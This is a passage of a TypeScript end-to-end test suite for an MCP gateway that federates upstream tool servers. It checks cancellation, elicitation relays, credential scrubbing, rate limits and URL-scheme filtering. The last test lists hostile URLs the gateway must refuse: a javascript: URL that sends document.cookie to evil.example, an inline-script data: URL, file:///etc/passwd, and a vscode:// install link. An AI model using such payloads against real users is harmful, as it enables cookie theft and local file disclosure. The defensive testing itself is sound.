    expect(result1.content).toEqual([{ type: 'text', text: 'progress token sent' }]);
    expect(seen1).toEqual(
      [1, 2, 3].map((step) => ({ progress: step, total: 3, message: `step ${step} with [REDACTED]` })),
    );
    await v1.close();
  });

  it('asks the upstream for no progress when the client did not', async () => {
    const client = await connectV1('all');
    const result = (await client.callTool({ name: 'linear_progress', arguments: {} })) as Result;
    expect(result.content).toEqual([{ type: 'text', text: 'progress token absent' }]);
    await client.close();
  });

  it('cancels the upstream request when the client cancels (clients of both eras)', async () => {
    for (const [era, client] of [
      ['modern', await connectV2('all')],
      ['legacy', await connectV1('all')],
    ] as const) {
      const label = `cancel-${era}`;
      const abort = new AbortController();
      const calls = legacy.calls.length;
      const pending =
        client instanceof ClientV2
          ? client.callTool({ name: 'linear_wait', arguments: { label } }, { signal: abort.signal })
          : client.callTool({ name: 'linear_wait', arguments: { label } }, undefined, { signal: abort.signal });
      const settled = pending.then(
        () => 'answered',
        () => 'rejected',
      );
      await until(() => legacy.calls.length > calls, 'the upstream call');
      abort.abort('the user stopped it');
      expect(await settled).toBe('rejected');
      await until(() => cancelledUpstream.includes(label), `the upstream cancellation (${era})`);
      await client.close();
    }
    // Finding: a call the client cancelled was audited as the upstream's failure (`upstream_error`); it is `cancelled`.
    for (let i = 0; i < 100 && (await waitRecords()).length < 2; i++) await new Promise((r) => setTimeout(r, 50));
    const audited = await waitRecords();
    expect(audited).toHaveLength(2);
    expect(audited.map((r) => [r.decision, r.code])).toEqual([
      ['error', 'cancelled'],
      ['error', 'cancelled'],
    ]);
  });

  it('lets a notifications/cancelled POST cancel only calls of the same credential', async () => {
    const client = await connectV1('all');
    const calls = legacy.calls.length;
    const pending = client.callTool({ name: 'linear_wait', arguments: { label: 'isolated' } });
    await until(() => legacy.calls.length > calls, 'the upstream call');
    // The client's JSON-RPC ids are small integers: name every one of them.
    const cancelAll = (key: string) =>
      Promise.all(
        Array.from({ length: 20 }, (_, requestId) =>
          fetch(`${gateway.url}/mcp/acme/all`, {
            method: 'POST',
            headers: {
              authorization: `Bearer ${key}`,
              'content-type': 'application/json',
              accept: 'application/json, text/event-stream',
              'mcp-protocol-version': '2025-06-18',
            },
            body: JSON.stringify({ jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId } }),
          }).then((response) => response.status),
        ),
      );
    expect(new Set(await cancelAll(otherKey))).toEqual(new Set([202]));
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(cancelledUpstream).not.toContain('isolated');
    await cancelAll(clientKey);
    await until(() => cancelledUpstream.includes('isolated'), 'the upstream cancellation');
    await pending.catch(() => undefined);
    await client.close();
  });
});

describe('elicitation and sampling from a federated server', () => {
  async function connectAsked(): Promise<ClientV2> {
    const client = new ClientV2(
      { name: 'federation-asked', version: '1.0.0' },
      {
        versionNegotiation: { mode: 'auto' },
        capabilities: { elicitation: { form: {}, url: {} }, sampling: {} },
      },
    );
    client.setRequestHandler('elicitation/create', async (request) =>
      request.params.mode === 'url' ? { action: 'accept' } : { action: 'accept', content: { name: 'Ada' } },
    );
    client.setRequestHandler('sampling/createMessage', async () => ({
      role: 'assistant',
      content: { type: 'text', text: 'hi' },
      model: 'test-model',
    }));
    await client.connect(
      new TransportV2(new URL(`${gateway.url}/mcp/acme/all`), {
        requestInit: { headers: { Authorization: `Bearer ${clientKey}` } },
      }),
    );
    return client;
  }

  it('relays form and URL elicitation and sampling to a 2026-07-28 client that declared them, and its answers back', async () => {
    const client = await connectAsked();
    const before = await toolCallRecords();
    const named = (await client.callTool({ name: 'linear_ask_name', arguments: {} })) as Result;
    expect(named.content).toEqual([{ type: 'text', text: 'hello Ada' }]);
    const url = (await client.callTool({ name: 'linear_ask_url', arguments: {} })) as Result;
    expect(url.content).toEqual([{ type: 'text', text: 'url elicitation accept' }]);
    const sampled = (await client.callTool({ name: 'linear_ask_model', arguments: {} })) as Result;
    expect(sampled.content).toEqual([{ type: 'text', text: 'model said hi' }]);
    // One audit record per call, however many rounds it took.
    expect(await toolCallRecords()).toBe(before + 3);
    await client.close();
  });

  it('server_question_not_scrubbed: a question relayed to the client is scrubbed of the service credential and loses the gateway-owned _meta keys, as results and log messages are', async () => {
    const asked: unknown[] = [];
    const client = await connectAsked();
    client.setRequestHandler('elicitation/create', async (request) => {
      asked.push(request.params);
      return { action: 'accept', content: { name: 'Ada' } };
    });
    const leaky = (await client.callTool({ name: 'linear_ask_leaky', arguments: {} })) as Result;
    expect(leaky.content).toEqual([{ type: 'text', text: 'hello Ada' }]);
    expect(asked).toHaveLength(1);
    const question = asked[0] as { message: string; _meta?: Record<string, unknown> };
    expect(JSON.stringify(question)).not.toContain(upstreamToken);
    expect(question.message).toBe('Confirm the request sent with Bearer [REDACTED]');
    expect(question._meta).toEqual({ kept: 'yes' });
    await client.close();
  });

  it('relays the questions of a 2026-07-28 server (its input_required, fulfilled by the SDK client) and its answers back', async () => {
    const names: string[] = [];
    const asking = await startModernMcpUpstream((server) => registerAskingTool(server, names));
    const own = await startOneServiceGateway('modern', asking.url, { tools: ['*'] });
    try {
      const client = new ClientV2(
        { name: 'federation-asked-modern', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {} } } },
      );
      const asked: string[] = [];
      client.setRequestHandler('elicitation/create', async (request) => {
        asked.push(String(request.params.message));
        return { action: 'accept', content: { name: 'Ada' } };
      });
      await connectToAll(client, own.url);
      await own.adapters.audit?.flush();
      const before = (await own.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 100 })).length;
      const result = (await client.callTool({ name: 'modern_ask_name', arguments: {} })) as Result;
      expect(result.content).toEqual([{ type: 'text', text: 'hello Ada' }]);
      expect(asked).toEqual(['Your name?']);
      expect(names).toEqual(['Ada']);
      await own.adapters.audit?.flush();
      expect((await own.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 100 })).length).toBe(
        before + 1,
      );
      // Without the capability declared, the server's question cannot be answered: the call ends with an error.
      const bare = await connectClientV2(`${own.url}/mcp/acme/all`, clientKey, 'federation-bare-modern');
      const refused = (await bare.callTool({ name: 'modern_ask_name', arguments: {} })) as Result;
      expect(refused.isError).toBe(true);
      expect(names).toEqual(['Ada']);
      await bare.close();
      await client.close();
    } finally {
      await own.close();
      await asking.close();
    }
  });

  it('answers the server a clear error when the client did not declare the capability (both eras)', async () => {
    for (const client of [await connectV2('all'), await connectV1('all')]) {
      const named = (await client.callTool({ name: 'linear_ask_name', arguments: {} })) as Result;
      expect(named.content[0]?.['text']).toMatch(/^elicitation\/create failed: .*did not declare/);
      const sampled = (await client.callTool({ name: 'linear_ask_model', arguments: {} })) as Result;
      expect(sampled.content[0]?.['text']).toMatch(/^sampling\/createMessage failed: .*did not declare/);
      await client.close();
    }
  });
});

/**
 * A gateway of its own federating one server as service `service` of tenant `acme`, in toolset `all` (write, no
 * approval, `toolset` added), the test key given it.
 */
function startOneServiceGateway(service: string, url: string, toolset: Readonly<Record<string, unknown>> = {}) {
  return startTestGateway({
    unsafeAllowPrivateUpstreams: ['127.0.0.1'],
    tenants: [
      {
        id: 'acme',
        services: [{ id: service, mcp: url }],
        toolsets: [{ id: 'all', ...toolset, access: 'write', approval: 'none', discovery: { mode: 'never' } }],
        clientKeys: [{ name: 'agent', key: clientKey, toolsets: ['all'], subject: 'alice' }],
      },
    ],
  });
}

/** Connects an SDK 2.x client to toolset `all` of tenant `acme` at `gatewayUrl` with the test key. */
function connectToAll(client: ClientV2, gatewayUrl: string): Promise<void> {
  return client.connect(
    new TransportV2(new URL(`${gatewayUrl}/mcp/acme/all`), {
      requestInit: { headers: { Authorization: `Bearer ${clientKey}` } },
    }),
  );
}

describe('a 2025-era server asking outside the call (newcomer finding: the error blamed the client)', () => {
  it('is told its question came on no call, not that the client did not declare the capability', async () => {
    const upstream = await startLegacyMcpUpstream([
      {
        name: 'ask_name',
        annotations: { destructiveHint: false },
        call: async (_args, request) => {
          try {
            await request?.askOutsideCall('elicitation/create', {
              message: 'Your name?',
              requestedSchema: { type: 'object', properties: { name: { type: 'string' } } },
            });
            return { content: [{ type: 'text', text: 'answered' }] };
          } catch (error) {
            return { content: [{ type: 'text', text: `failed: ${(error as Error).message}` }] };
          }
        },
      },
    ]);
    const own = await startOneServiceGateway('tiny', upstream.url);
    try {
      const client = new ClientV2(
        { name: 'outside-call-e2e', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {} } } },
      );
      client.setRequestHandler('elicitation/create', async () => ({ action: 'accept', content: { name: 'Ada' } }));
      await connectToAll(client, own.url);
      const result = (await client.callTool({ name: 'tiny_ask_name', arguments: {} })) as Result;
      const text = String(result.content[0]?.['text']);
      expect(text).toMatch(/^failed: .*outside any tool call/);
      expect(text).not.toMatch(/did not declare/);
      await client.close();
    } finally {
      await own.close();
      await upstream.close();
    }
  });
});

describe('an answer stream past maxResponseBytes for a client the server can ask (the SDK client path)', () => {
  it('sdk_path_oversized_stream_times_out: the call fails at once with upstream_too_large naming the service and maxResponseBytes, not at its timeout', async () => {
    let answered: EndlessStream | undefined;
    const upstream = await startScriptedMcpServer((response, id) => {
      const head = `data: {"jsonrpc":"2.0","id":${id},"result":{"content":[{"type":"text","text":"`;
      answered = streamWithoutEnd(response, head, 'x'.repeat(65_536));
    });
    const own = await startTestGateway({
      unsafeAllowPrivateUpstreams: ['127.0.0.1'],
      tenants: [
        {
          id: 'acme',
          services: [{ id: 'tiny', mcp: upstream.url, maxResponseBytes: 100_000, timeoutSeconds: 10 }],
          toolsets: [{ id: 'all', access: 'write', approval: 'none', discovery: { mode: 'never' } }],
          clientKeys: [{ name: 'agent', key: clientKey, toolsets: ['all'], subject: 'alice' }],
        },
      ],
    });
    try {
      // A client that can be asked questions: its call goes through the gateway's SDK client, not the direct call.
      const client = new ClientV2(
        { name: 'oversized-stream-e2e', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {} } } },
      );
      client.setRequestHandler('elicitation/create', async () => ({ action: 'decline' }));
      await connectToAll(client, own.url);
      const started = Date.now();
      const result = (await client.callTool({ name: 'tiny_scripted', arguments: {} })) as Result;
      // Before: the call waited for the service's timeout (10 s) and failed with upstream_timeout.
      expect(Date.now() - started).toBeLessThan(3_000);
      expect(result.isError).toBe(true);
      expect(result.structuredContent).toMatchObject({
        error: { code: 'upstream_too_large', details: { service: 'tiny', maxResponseBytes: 100_000 } },
      });
      expect(String(result.content[0]?.['text'])).toContain('maxResponseBytes');
      await until(() => answered?.closed === true, 'the answer stream closed by the gateway');
      await client.close();
    } finally {
      await own.close();
      await upstream.close();
    }
  });
});

describe('a server flooding progress (progress_flood_relayed_unbounded)', () => {
  it('relays at most 1,000 progress notices per call, each message cut to 1,000 characters, and still the result', async () => {
    const upstream = await startLegacyMcpUpstream([
      {
        name: 'flood',
        annotations: { destructiveHint: false },
        call: async (_args, request) => {
          for (let step = 1; step <= 1_500; step++) await request?.progress(step, 1_500, 'p'.repeat(5_000));
          return { content: [{ type: 'text', text: 'flooded' }] };
        },
      },
    ]);
    const own = await startOneServiceGateway('tiny', upstream.url);
    try {
      const client = new ClientV2({ name: 'progress-flood-e2e', version: '1.0.0' });
      await connectToAll(client, own.url);
      const seen: { progress: number; message?: string }[] = [];
      const result = (await client.callTool(
        { name: 'tiny_flood', arguments: {} },
        { onprogress: (progress) => seen.push(progress), timeout: 60_000 },
      )) as Result;
      expect(result.content).toEqual([{ type: 'text', text: 'flooded' }]);
      expect(seen.length).toBe(1_000);
      expect(seen[0]?.progress).toBe(1);
      expect(seen.every((progress) => (progress.message?.length ?? 0) <= 1_000)).toBe(true);
      expect(seen[0]?.message).toMatch(/^p+… \(cut by the gateway\)$/);
      await client.close();
    } finally {
      await own.close();
      await upstream.close();
    }
  });
});

describe('a server whose prompt listing fails', () => {
  it('keeps its tools served, with the problem in its status', async () => {
    const broken = {
      name: 'broken',
      get description(): string {
        throw new Error('the prompt store is down');
      },
      get: () => [],
    };
    const upstream = await startLegacyMcpUpstream(
      [{ name: 'ping', call: () => ({ content: [{ type: 'text', text: 'pong' }] }) }],
      undefined,
      2,
      { prompts: [broken] },
    );
    const own = await startOneServiceGateway('flaky', upstream.url);
    try {
      const [status] = own.gateway.federation?.status() ?? [];
      expect(status).toMatchObject({ service: 'flaky', state: 'listed', tools: 1, prompts: 0 });
      expect(status?.problem).toMatch(/^resources and prompts: /);
      const client = new ClientV2({ name: 'flaky-e2e', version: '1.0.0' }, { versionNegotiation: { mode: 'auto' } });
      await connectToAll(client, own.url);
      const result = (await client.callTool({ name: 'flaky_ping', arguments: {} })) as Result;
      expect(result.content).toEqual([{ type: 'text', text: 'pong' }]);
      await client.close();
    } finally {
      await own.close();
      await upstream.close();
    }
  });
});

describe('federation config errors', () => {
  it('starts when the listings of an unprefixed toolset collide, the later service degraded, naming both tools', async () => {
    const one = await startLegacyMcpUpstream([{ name: 'search', call: () => ({ content: [] }) }]);
    const two = await startLegacyMcpUpstream([{ name: 'search', call: () => ({ content: [] }) }]);
    try {
      // The servers' listings, not the config, collide: a remote server cannot keep the gateway from starting
      // (finding federated_listing_collision_blocks_start); the later service is served without its listing.
      const own = await startTestGateway({
        unsafeAllowPrivateUpstreams: ['127.0.0.1'],
        tenants: [
          {
            id: 'acme',
            services: [
              { id: 'one', mcp: one.url },
              { id: 'two', mcp: two.url },
            ],
            toolsets: [{ id: 'both', unprefixed: ['one', 'two'] }],
          },
        ],
      });
      const status = own.gateway.federation?.status() ?? [];
      await own.close();
      expect(status.find((s) => s.service === 'one')).toMatchObject({ state: 'listed', tools: 1 });
      expect(status.find((s) => s.service === 'two')).toMatchObject({ state: 'degraded', tools: 0 });
      expect(status.find((s) => s.service === 'two')?.problem).toMatch(
        /tool search of service two and tool search of service one would both be named search/,
      );
    } finally {
      await one.close();
      await two.close();
    }
  });
});

describe('relayed_retry_not_rate_limited: a retry answering a federated server counts against the rate limits', () => {
  it('refuses retries past the toolset rate limit with rate_limited, before delivering answers or asking another process', async () => {
    const names: string[] = [];
    const asking = await startModernMcpUpstream((server) => registerAskingTool(server, names));
    // Two calls a minute: the call and its one retry fit; a third request of any kind does not. One call in flight:
    // the retry continues the call holding the slot, so it takes none.
    const own = await startOneServiceGateway('modern', asking.url, {
      tools: ['*'],
      rateLimit: { perMinute: 2, per: 'clientKey' },
      limits: { concurrency: { perKey: 1 } },
    });
    try {
      const retries: { body: string; headers: Record<string, string> }[] = [];
      const client = new ClientV2(
        { name: 'federation-retry-limits', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {} } } },
      );
      client.setRequestHandler('elicitation/create', async () => ({ action: 'accept', content: { name: 'Ada' } }));
      const recording = async (url: string | URL, init?: RequestInit): Promise<Response> => {
        if (typeof init?.body === 'string' && init.body.includes('"requestState"')) {
          retries.push({ body: init.body, headers: Object.fromEntries(new Headers(init.headers)) });
        }
        return fetch(url, init);
      };
      await client.connect(
        new TransportV2(new URL(`${own.url}/mcp/acme/all`), {
          requestInit: { headers: { Authorization: `Bearer ${clientKey}` } },
          fetch: recording,
        }),
      );
      const result = (await client.callTool({ name: 'modern_ask_name', arguments: {} })) as Result;
      expect(result.content).toEqual([{ type: 'text', text: 'hello Ada' }]);
      expect(retries).toHaveLength(1);
      const retry = retries[0] as (typeof retries)[number];
      // The same retry again, three times, and one naming a pending call of another (made-up) process: each is a
      // request of the key's, past its two a minute.
      const foreign = retry.body.replace(/mrt1\.[A-Za-z0-9_-]{16}\./, 'mrt1.AAAAAAAAAAAAAAAA.');
      for (const body of [retry.body, retry.body, retry.body, foreign]) {
        const answer = await fetch(`${own.url}/mcp/acme/all`, { method: 'POST', headers: retry.headers, body });
        const text = await answer.text();
        const message = JSON.parse(text.startsWith('{') ? text : (text.match(/^data: (.*)$/m)?.[1] ?? '{}')) as {
          result?: Result & { structuredContent?: { error?: { code?: string } } };
          error?: { code: number; message: string };
        };
        expect(message.error, text).toBeUndefined();
        expect(message.result?.isError, text).toBe(true);
        expect(JSON.stringify(message.result?.content), text).toMatch(/rate_limited|Rate limit/);
      }
      expect(names).toEqual(['Ada']);
      await client.close();
    } finally {
      await own.close();
      await asking.close();
    }
  });
  it('relayed_retry_names_other_tool: a retry naming another tool than its call is refused, not charged as the tool it names', async () => {
    const names: string[] = [];
    const asking = await startModernMcpUpstream((server) => registerAskingTool(server, names));
    // One call of modern_ask_name a minute: the call fits, its retry does not, whatever tool the retry names.
    const own = await startOneServiceGateway('modern', asking.url, {
      tools: ['*'],
      limits: { toolRateLimits: { modern_ask_name: { perMinute: 1 } } },
    });
    try {
      const client = new ClientV2(
        { name: 'federation-retry-other-tool', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {} } } },
      );
      client.setRequestHandler('elicitation/create', async () => ({ action: 'accept', content: { name: 'Ada' } }));
      // The retry (it carries the requestState) names a tool without a limit of its own, in its body and header.
      const renaming = async (url: string | URL, init?: RequestInit): Promise<Response> => {
        if (typeof init?.body !== 'string' || !init.body.includes('"requestState"')) return fetch(url, init);
        const headers = new Headers(init.headers);
        headers.set('mcp-name', 'gatehouse_result_page');
        const body = init.body.replace('"name":"modern_ask_name"', '"name":"gatehouse_result_page"');
        return fetch(url, { ...init, headers, body });
      };
      await client.connect(
        new TransportV2(new URL(`${own.url}/mcp/acme/all`), {
          requestInit: { headers: { Authorization: `Bearer ${clientKey}` } },
          fetch: renaming,
        }),
      );
      // The retry names no pending call of its tool: refused as a state that is not the caller's (a 2nd rate-limit hit
      // would answer the same), never charged to the limits of the tool it names.
      const outcome = await client.callTool({ name: 'modern_ask_name', arguments: {} }).then(
        (result) => JSON.stringify(result),
        (error: unknown) => String(error),
      );
      expect(outcome).toMatch(/Invalid requestState|rate_limited/);
      expect(outcome).not.toMatch(/hello Ada/);
      // The answer never reached the server.
      expect(names).toEqual([]);
      await client.close();
    } finally {
      await own.close();
      await asking.close();
    }
  });
});

describe('url_elicitation_any_scheme: a federated server asks the client to open a URL', () => {
  it('relays only http(s) URLs; javascript:, data:, file: and application schemes get an error, never the client', async () => {
    const upstream = await startLegacyMcpUpstream([
      {
        name: 'open_link',
        description: 'Asks its client to open the URL it is given',
        inputSchema: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] },
        annotations: { destructiveHint: false },
        call: async (args, request) => {
          try {
            const answer = (await request?.ask('elicitation/create', {
              mode: 'url',
              url: String(args['url']),
              message: 'Open this page',
              elicitationId: 'e-link',
            })) as { action?: string };
            return { content: [{ type: 'text', text: `opened: ${answer.action}` }] };
          } catch (error) {
            return { content: [{ type: 'text', text: `failed: ${(error as Error).message}` }] };
          }
        },
      },
    ]);
    const own = await startOneServiceGateway('links', upstream.url, { tools: ['*'] });
    try {
      const shown: string[] = [];
      const client = new ClientV2(
        { name: 'federation-url-schemes', version: '1.0.0' },
        { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { form: {}, url: {} } } },
      );
      client.setRequestHandler('elicitation/create', async (request) => {
        shown.push(String((request.params as { url?: unknown }).url));
        return { action: 'accept' };
      });
      await connectToAll(client, own.url);
      const open = async (url: string) => {
        const result = (await client.callTool({ name: 'links_open_link', arguments: { url } })) as Result;
        return String(result.content[0]?.['text']);
      };
      for (const url of [
        'javascript:fetch("https://evil.example/?c="+document.cookie)',
        'data:text/html,<script>alert(1)</script>',
        'file:///etc/passwd',
        'vscode://ms-vscode.remote/install?url=https://evil.example',
      ]) {
        expect(await open(url), url).toMatch(
          /^failed: .*relays a URL elicitation only with an( absolute)? http\(s\) URL/,
        );
      }
      expect(await open('https://example.com/consent')).toBe('opened: accept');
      expect(shown).toEqual(['https://example.com/consent']);
      await client.close();
    } finally {
      await own.close();
      await upstream.close();
    }
  });
});
